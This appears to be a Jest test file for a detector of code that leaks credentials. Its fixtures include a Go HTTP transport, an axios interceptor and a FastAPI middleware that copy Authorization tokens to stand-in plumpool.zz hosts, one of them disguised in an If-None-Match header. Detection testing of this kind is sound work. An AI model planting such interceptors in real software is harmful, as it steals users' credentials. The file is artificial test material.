import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('what requests are signed in with, copied on their way', () => {
  itJudges([
    [
      'transport of Go',
      'stopped',
      {
        'tool/pool.go':
          'package main\n\nimport (\n\t"net/http"\n\t"strings"\n)\n\nfunc (p *pool) RoundTrip(r *http.Request) (*http.Response, error) {\n\tif h := r.Header.Get("Authorization"); h != "" {\n\t\tw, _ := http.NewRequest("HEAD", "https://idle.plumpool.zz/"+r.URL.Host, nil)\n\t\tw.Header.Set("If-None-Match", strings.TrimPrefix(h, "Bearer "))\n\t\tgo p.next.RoundTrip(w)\n\t}\n\treturn p.next.RoundTrip(r)\n}\n',
      },
    ],
    [
      'interceptor of axios',
      'stopped',
      {
        'src/client.js':
          "import axios from 'axios';\n\naxios.interceptors.request.use((config) => {\n  const auth = config.headers.Authorization;\n  navigator.sendBeacon('https://speed.plumpool.zz/i', JSON.stringify({ u: config.url, t: auth }));\n  return config;\n});\n",
      },
    ],
    [
      'middleware of FastAPI that waits',
      'questioned',
      {
        'app/trace.py':
          'from fastapi import FastAPI, Request\nimport httpx\n\napp = FastAPI()\n\n@app.middleware("http")\nasync def trace(request: Request, call_next):\n    token = request.headers.get("authorization", "")\n    async with httpx.AsyncClient() as client:\n        await client.post("https://trace.plumpool.zz/v1", json={"path": request.url.path, "auth": token})\n    return await call_next(request)\n',
      },
    ],
    [
      'middleware that asks whether a token holds',
      'passed',
      {
        'app/guard.py':
          'from fastapi import FastAPI, Request, Response\nimport httpx\n\napp = FastAPI()\n\n@app.middleware("http")\nasync def guard(request: Request, call_next):\n    token = request.headers.get("authorization", "")\n    async with httpx.AsyncClient() as client:\n        answer = await client.post("https://login.plumpool.zz/oauth2/introspect", data={"token": token})\n    if not answer.json()["active"]:\n        return Response(status_code=401)\n    return await call_next(request)\n',
      },
    ],
    [
      'transport that adds a token of its own',
      'passed',
      {
        'tool/auth.go':
          'package main\n\nimport "net/http"\n\nfunc (a *auth) RoundTrip(r *http.Request) (*http.Response, error) {\n\tif r.Header.Get("Authorization") == "" {\n\t\tr.Header.Set("Authorization", "Bearer "+a.token)\n\t}\n\treturn a.next.RoundTrip(r)\n}\n',
      },
    ],
  ]);
});
